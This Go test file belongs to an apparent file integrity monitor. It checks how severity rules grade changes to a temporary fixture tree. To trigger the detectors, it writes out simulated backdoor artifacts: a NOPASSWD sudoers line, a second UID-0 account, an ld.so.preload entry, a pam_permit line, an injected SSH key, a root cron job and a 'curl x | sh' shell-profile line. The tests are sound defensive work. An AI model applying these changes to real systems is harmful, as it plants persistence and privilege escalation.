package check

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"fim/baseline"
	"fim/config"
	"fim/internal/fstest"
)

// severityTree is a small system tree, read under a root as fim check --root reads one.
var severityTree = fstest.Tree{
	"usr/bin/tool":         fstest.File("tool").Mode(0o755),
	"usr/bin/ls":           fstest.File("ls").Mode(0o755),
	"usr/lib/libc.so":      fstest.File("libc").Mode(0o755),
	"usr/local/bin/":       fstest.Dir(),
	"etc/passwd":           fstest.File("root:x:0:0::/root:/bin/sh\n"),
	"etc/ld.so.conf.d/":    fstest.Dir(),
	"etc/sudoers.d/":       fstest.Dir(),
	"etc/cron.d/":          fstest.Dir(),
	"etc/pam.d/login":      fstest.File("auth required pam_unix.so\n"),
	"etc/systemd/system/":  fstest.Dir(),
	"home/u/.ssh/":         fstest.Dir(),
	"tmp/payload":          fstest.File("payload").Mode(0o755),
	"data/notes":           fstest.File("notes"),
	"var/log/app.log":      fstest.File("log"),
	"etc/ssh/sshd_config":  fstest.File("PermitRootLogin no\n"),
	"usr/share/doc/readme": fstest.File("doc"),
	"opt/suid":             fstest.File("suid").Mode(0o4755),
}

// severityCheck baselines severityTree under a new root with the severity rules given,
// runs mutate on the root, and returns the events in the engine's order as
// "kind path severity [reasons]".
func severityCheck(t *testing.T, rules []config.SeverityRule, mutate func(t *testing.T, root string)) []string {
	t.Helper()
	root := fstest.Make(t, severityTree)
	f := &fixture{dir: t.TempDir(), tree: root}
	f.db = filepath.Join(f.dir, "fim.db")
	f.pol = &config.Policy{Root: root, Rules: []config.Rule{{Path: "/", IncludeHidden: true}}, Severity: rules}
	var err error
	if f.comp, err = f.pol.Compile(); err != nil {
		t.Fatal(err)
	}
	rec, err := Create(f.db, nil)
	must(t, err)
	_, err = rec.Record(context.Background(), f.pol, Walker(f.comp, WalkerOptions{Root: root, Own: rec.Own()}).Walk(context.Background()), Stamp{}, nil)
	rec.Close()
	must(t, err)
	mutate(t, root)
	r, err := baseline.Open(f.db)
	must(t, err)
	defer r.Close()
	_, comp, err := Policy(r) // the rules as stored with the baseline
	must(t, err)
	events, err := Compare(context.Background(), Options{Baseline: r, Compiled: comp, DB: f.db,
		Walker: WalkerOptions{Root: root}})
	must(t, err)
	var out []string
	for _, ev := range events {
		out = append(out, fmt.Sprintf("%s %s %s [%s]", ev.Kind, ev.Path, ev.Severity, strings.Join(ev.Reasons, ",")))
	}
	return out
}

func chmod(t *testing.T, p string, mode uint32) {
	t.Helper()
	if err := unix.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

func rename(t *testing.T, from, to string) {
	t.Helper()
	must(t, os.Rename(from, to))
}

// capability is a struct vfs_cap_data (revision 2) giving cap_net_raw, effective.
var capability = []byte{1, 0, 0, 2, 1 << 5, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}

// TestSeverityRules: each class of built-in rule grades a real change of a real tree,
// and only the rules that decided are its reasons.
func TestSeverityRules(t *testing.T) {
	for _, c := range []struct {
		name   string
		root   bool // needs root (file capabilities)
		mutate func(t *testing.T, root string)
		want   []string
	}{
		{"setuid gained", false, func(t *testing.T, r string) { chmod(t, r+"/usr/bin/tool", 0o4755) },
			[]string{"chmod /usr/bin/tool critical [setuid-gained]"}},
		{"setgid gained", false, func(t *testing.T, r string) { chmod(t, r+"/data/notes", 0o2644) },
			[]string{"chmod /data/notes critical [setgid-gained]"}},
		{"setuid kept is not gained", false, func(t *testing.T, r string) {
			must(t, os.WriteFile(r+"/opt/suid", []byte("new"), 0o644))
		}, []string{"change /opt/suid low [default]"}},
		{"file capability gained", true, func(t *testing.T, r string) {
			must(t, unix.Lsetxattr(r+"/usr/bin/ls", "security.capability", capability, 0))
		}, []string{"chmod /usr/bin/ls high [capability-gained]"}},
		{"world-writable gained", false, func(t *testing.T, r string) { chmod(t, r+"/data/notes", 0o666) },
			[]string{"chmod /data/notes high [world-writable-gained]"}},
		{"a symlink is not world-writable", false, func(t *testing.T, r string) {
			must(t, os.Symlink("notes", r+"/data/link"))
		}, []string{"create /data/link low [default]"}},
		{"new executable under /usr/local", false, func(t *testing.T, r string) {
			fstest.File("x").Mode(0o755).Create(t, r+"/usr/local/bin/x")
		}, []string{"create /usr/local/bin/x high [system-executable-new]"}},
		{"executable moved into a system bin dir", false, func(t *testing.T, r string) {
			rename(t, r+"/tmp/payload", r+"/usr/bin/payload")
		}, []string{"move /usr/bin/payload high [system-executable-new]"}},
		{"file made executable in a lib dir", false, func(t *testing.T, r string) {
			fstest.File("so").Create(t, r+"/usr/lib/x.so")
			chmod(t, r+"/usr/lib/x.so", 0o755)
		}, []string{"create /usr/lib/x.so high [system-executable-new]"}},
		{"system file changed", false, func(t *testing.T, r string) {
			must(t, os.WriteFile(r+"/usr/bin/ls", []byte("trojan"), 0o755))
		}, []string{"change /usr/bin/ls medium [system-file-changed]"}},
		{"ld.so.preload", false, func(t *testing.T, r string) {
			fstest.File("/tmp/x.so\n").Create(t, r+"/etc/ld.so.preload")
			fstest.File("/opt/lib\n").Create(t, r+"/etc/ld.so.conf.d/x.conf")
		}, []string{"create /etc/ld.so.preload critical [ld-preload]", "create /etc/ld.so.conf.d/x.conf high [ld-config]"}},
		{"accounts", false, func(t *testing.T, r string) {
			must(t, os.WriteFile(r+"/etc/passwd", []byte("root:x:0:0::/root:/bin/sh\nx:x:0:0::/:/bin/sh\n"), 0o644))
			fstest.File("x:!:1::::::\n").Create(t, r+"/etc/shadow")
		}, []string{"change /etc/passwd high [accounts]", "create /etc/shadow high [accounts]"}},
		{"sudoers", false, func(t *testing.T, r string) {
			fstest.File("x ALL=(ALL) NOPASSWD: ALL\n").Create(t, r+"/etc/sudoers.d/x")
		}, []string{"create /etc/sudoers.d/x high [sudoers]"}},
		{"authorized_keys anywhere", false, func(t *testing.T, r string) {
			fstest.File("ssh-ed25519 AAAA x\n").Create(t, r+"/home/u/.ssh/authorized_keys")
			must(t, os.WriteFile(r+"/etc/ssh/sshd_config", []byte("PermitRootLogin yes\n"), 0o644))
		}, []string{"change /etc/ssh/sshd_config high [ssh-access]", "create /home/u/.ssh/authorized_keys high [ssh-access]"}},
		{"cron", false, func(t *testing.T, r string) {
			fstest.File("* * * * * root /tmp/x\n").Create(t, r+"/etc/cron.d/job")
		}, []string{"create /etc/cron.d/job high [cron]"}},
		{"pam", false, func(t *testing.T, r string) {
			must(t, os.WriteFile(r+"/etc/pam.d/login", []byte("auth sufficient pam_permit.so\n"), 0o644))
			must(t, os.MkdirAll(r+"/usr/lib/x86_64-linux-gnu/security", 0o755))
			fstest.File("so").Create(t, r+"/usr/lib/x86_64-linux-gnu/security/pam_x.so")
		}, []string{"change /etc/pam.d/login high [pam]", "create /usr/lib/x86_64-linux-gnu/security/pam_x.so high [pam]",
			"create /usr/lib/x86_64-linux-gnu low [default]", "create /usr/lib/x86_64-linux-gnu/security low [default]"}},
		{"systemd unit", false, func(t *testing.T, r string) {
			fstest.File("[Service]\nExecStart=/tmp/x\n").Create(t, r+"/etc/systemd/system/x.service")
			must(t, os.MkdirAll(r+"/usr/lib/systemd/user", 0o755))
			fstest.File("[Service]\n").Create(t, r+"/usr/lib/systemd/user/y.service")
		}, []string{"create /etc/systemd/system/x.service high [systemd-unit]", "create /usr/lib/systemd/user/y.service high [systemd-unit]",
			"create /usr/lib/systemd low [default]", "create /usr/lib/systemd/user low [default]"}},
		{"shell profile", false, func(t *testing.T, r string) {
			fstest.File("curl x | sh\n").Create(t, r+"/home/u/.bashrc")
		}, []string{"create /home/u/.bashrc medium [shell-profile]"}},
		{"hidden file in a system dir", false, func(t *testing.T, r string) {
			fstest.File("x").Create(t, r+"/usr/share/.x")
		}, []string{"create /usr/share/.x medium [hidden-in-system-dir]"}},
		{"what no rule names", false, func(t *testing.T, r string) {
			fstest.File("n").Create(t, r+"/data/new")
			must(t, os.Remove(r+"/usr/share/doc/readme"))
		}, []string{"create /data/new low [default]", "remove /usr/share/doc/readme low [default]"}},
		{"a rename that gains setuid comes first", false, func(t *testing.T, r string) {
			fstest.File("n").Create(t, r+"/data/new")
			must(t, os.WriteFile(r+"/etc/passwd", []byte("root::0:0::/root:/bin/sh\n"), 0o644))
			rename(t, r+"/usr/bin/tool", r+"/usr/bin/zz")
			chmod(t, r+"/usr/bin/zz", 0o4755)
		}, []string{"rename /usr/bin/zz critical [setuid-gained]", "change /etc/passwd high [accounts]",
			"create /data/new low [default]"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.root && os.Geteuid() != 0 {
				fstest.Skipf(t, "setting security.capability needs root")
			}
			got := severityCheck(t, nil, c.mutate)
			if !slices.Equal(got, c.want) {
				t.Errorf("events:\n\t%s\nwant:\n\t%s", strings.Join(got, "\n\t"), strings.Join(c.want, "\n\t"))
			}
		})
	}
}

// TestSeverityOverrides: the configuration's rules, stored with the baseline, change
// what a check grades: a built-in's level kept with its conditions, a built-in turned
// off, a rule of its own that raises, one that caps, and one that replaces a built-in's
// conditions.
func TestSeverityOverrides(t *testing.T) {
	mutate := func(t *testing.T, r string) {
		chmod(t, r+"/usr/bin/tool", 0o4755)
		fstest.File("alias x=y\n").Create(t, r+"/home/u/.bashrc")
		must(t, os.WriteFile(r+"/var/log/app.log", []byte("log log"), 0o644))
		fstest.File("x").Mode(0o666).Create(t, r+"/var/log/open.log")
		fstest.File("n").Create(t, r+"/data/new")
	}
	for _, c := range []struct {
		name  string
		rules []config.SeverityRule
		want  []string
	}{
		{"built-in", nil, []string{
			"chmod /usr/bin/tool critical [setuid-gained]",
			"create /var/log/open.log high [world-writable-gained]",
			"create /home/u/.bashrc medium [shell-profile]",
			"create /data/new low [default]",
			"change /var/log/app.log low [default]",
		}},
		{"overridden", []config.SeverityRule{
			{Name: "setuid-gained", Level: "off"},
			{Name: "shell-profile", Level: "high"},
			{Name: "default", Level: "info"},
			{Name: "data", Paths: []string{"/data/**"}, Events: []string{"create"}, Level: "medium"},
			{Name: "logs", Paths: []string{"/var/log/**"}, Max: "low"},
		}, []string{
			"create /home/u/.bashrc high [shell-profile]",
			"create /data/new medium [data]",
			"create /var/log/open.log low [world-writable-gained,logs]",
			"chmod /usr/bin/tool info [default]",
			"change /var/log/app.log info [default]",
		}},
		{"conditions replaced", []config.SeverityRule{
			{Name: "shell-profile", Paths: []string{"/data/*"}, Level: "critical"},
		}, []string{
			"create /data/new critical [shell-profile]",
			"chmod /usr/bin/tool critical [setuid-gained]",
			"create /var/log/open.log high [world-writable-gained]",
			"create /home/u/.bashrc low [default]",
			"change /var/log/app.log low [default]",
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := severityCheck(t, c.rules, mutate)
			if !slices.Equal(got, c.want) {
				t.Errorf("events:\n\t%s\nwant:\n\t%s", strings.Join(got, "\n\t"), strings.Join(c.want, "\n\t"))
			}
		})
	}
}
